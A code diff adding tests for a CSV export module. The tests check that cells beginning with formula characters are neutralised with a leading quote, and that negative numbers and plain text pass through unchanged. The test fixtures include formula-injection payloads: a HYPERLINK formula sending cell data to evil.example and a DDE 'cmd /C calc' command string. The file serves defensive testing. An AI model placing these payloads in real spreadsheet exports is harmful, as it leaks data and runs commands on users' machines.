@@ -1,6 +1,16 @@
+import { readdir, readFile } from 'node:fs/promises';
+import path from 'node:path';
+import fc from 'fast-check';
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
-import { csvFileName, csvText } from './csv.ts';
+import { FORMULA_START, csvFileName, csvText } from './csv.ts';
+
+/** The cells of CSV text as a spreadsheet reads them (BOM off, `;` between fields). */
+function cells(text: string): string[][] {
+	return Papa.parse<string[]>(text.slice(1), { delimiter: ';', newline: '\r\n' }).data;
+}
+
+const PLAIN_NEGATIVE = /^-\d+(?:[.,]\d+)?$/;
 
 describe('csvText', () => {
 	it('starts with a BOM, separates by ; and CRLF, and quotes only what needs it', () => {
@@ -12,6 +22,78 @@ describe('csvText', () => {
 		expect(text).toContain('Svar;"Ja; men ""trasig"", 2,5 m\nandra raden"');
 		const parsed = Papa.parse<string[]>(text.slice(1), { delimiter: ';' }).data;
 		expect(parsed[1]).toEqual(['Svar', 'Ja; men "trasig", 2,5 m\nandra raden']);
+	});
+});
+
+describe('formula cells', () => {
+	it('neutralises cells starting with = + - @ tab or CR with a leading quote', () => {
+		const hostile = [
+			'=1+1',
+			'=HYPERLINK("http://evil.example?"&A1;"klicka")',
+			'+46 70 123 45 67',
+			"-2+3+cmd|' /C calc'!A0",
+			'@SUM(A1:A2)',
+			'\t=1+1',
+			'\r=1+1',
+			'=1+1\nandra raden',
+			'-1e5',
+			'-',
+		];
+		const parsed = cells(csvText([hostile]))[0];
+		expect(parsed).toEqual(hostile.map((cell) => `'${cell}`));
+	});
+
+	it('leaves plain negative numbers and ordinary text as they are', () => {
+		const plain = ['-3', '-2,5', '-0.5', '3', 'Ja', ' =inte först', "'redan citerad", 'a=b', ''];
+		expect(cells(csvText([['x', ...plain]]))[0]).toEqual(['x', ...plain]);
+		expect(csvText([['-3', '=1']])).toBe('\uFEFF-3;"\'=1"');
+	});
+
+	it('never lets a cell start a formula, and changes nothing else (property)', () => {
+		const risky = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' ', '"', ';', "'", '1', 'a', 'å');
+		const cell = fc.oneof(
+			fc.string(),
+			fc.array(risky, { maxLength: 6 }).map((parts) => parts.join('')),
+			fc.tuple(risky, fc.string()).map(([head, tail]) => head + tail),
+			fc.double({ noNaN: true, noDefaultInfinity: true }).map(String),
+			fc.integer().map(String),
+		);
+		fc.assert(
+			fc.property(
+				fc
+					.integer({ min: 1, max: 4 })
+					.chain((width) =>
+						fc.array(fc.array(cell, { minLength: width, maxLength: width }), { minLength: 1, maxLength: 5 }),
+					),
+				(rows) => {
+					// A first column that is never empty, so an all-empty row still reads back as a row.
+					const input = rows.map((row) => ['x', ...row]);
+					const output = cells(csvText(input));
+					expect(output).toHaveLength(input.length);
+					output.forEach((row, r) => {
+						row.forEach((value, c) => {
+							const original = input[r]?.[c] ?? '';
+							expect(/^[=+@\t\r]/.test(value)).toBe(false);
+							if (value.startsWith('-')) expect(value).toMatch(PLAIN_NEGATIVE);
+							expect(value).toBe(FORMULA_START.test(original) ? `'${original}` : original);
+						});
+					});
+				},
+			),
+			{ numRuns: 500 },
+		);
+	});
+
+	it('is the one place CSV is written: no other source file calls unparse', async () => {
+		const root = path.resolve(import.meta.dirname, '../..');
+		const files = (await readdir(root, { recursive: true, withFileTypes: true }))
+			.filter((e) => e.isFile() && /\.(ts|svelte)$/.test(e.name) && !e.name.endsWith('.spec.ts'))
+			.map((e) => path.join(e.parentPath, e.name));
+		const writers: string[] = [];
+		for (const file of files) {
+			if (/\bunparse\b/.test(await readFile(file, 'utf8'))) writers.push(path.relative(root, file));
+		}
+		expect(writers).toEqual([path.join('lib', 'state', 'csv.ts')]);
 	});
 });
 
